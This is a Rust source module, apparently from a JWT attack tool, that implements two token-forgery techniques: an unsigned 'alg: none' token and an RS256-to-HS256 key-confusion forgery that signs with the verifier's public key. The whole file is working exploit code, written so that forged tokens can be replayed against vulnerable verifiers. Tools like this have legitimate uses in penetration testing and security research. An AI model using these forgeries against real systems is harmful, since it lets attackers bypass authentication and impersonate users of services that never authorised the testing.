//! The two classic JWT signature-bypass constructions.
//!
//! Both take an already-parsed [`Token`], mutate its header, and return a new
//! compact serialization for replay against a vulnerable verifier.

use std::path::Path;

use crate::error::Result;
use crate::hmac::{sign_hs256, HmacKey};
use crate::token::Token;

/// Forge an unsigned token using the `none` algorithm.
///
/// Sets the header `alg` to `"none"` and re-encodes with an empty signature
/// segment, so the result always ends in a literal trailing `.`. A verifier
/// that honors `alg: none` accepts it without checking any signature
/// ([CVE-2015-9235] and friends).
///
/// [CVE-2015-9235]: https://nvd.nist.gov/vuln/detail/CVE-2015-9235
pub fn none_token(mut token: Token) -> Result<String> {
    token.set_algorithm("none");
    Ok(format!("{}.", token.signing_input()?))
}

/// Forge an HS256 token signed with the verifier's RSA public key.
///
/// Reads the key file at `path` and uses its verbatim bytes as the HMAC
/// secret, forcing the header `alg` to `HS256`. A verifier configured for
/// RS256 that feeds its public key to a generic `verify(alg, key)` routine
/// will validate the forged HMAC with that same key.
pub fn hmac_confusion(mut token: Token, path: impl AsRef<Path>) -> Result<String> {
    let key = HmacKey::from_file(path)?;
    token.set_algorithm("HS256");
    let signing_input = token.signing_input()?;
    let signature = sign_hs256(&key, &signing_input);
    tracing::debug!(key_len = key.len(), "re-signed token as HS256");
    Ok(format!("{signing_input}.{signature}"))
}
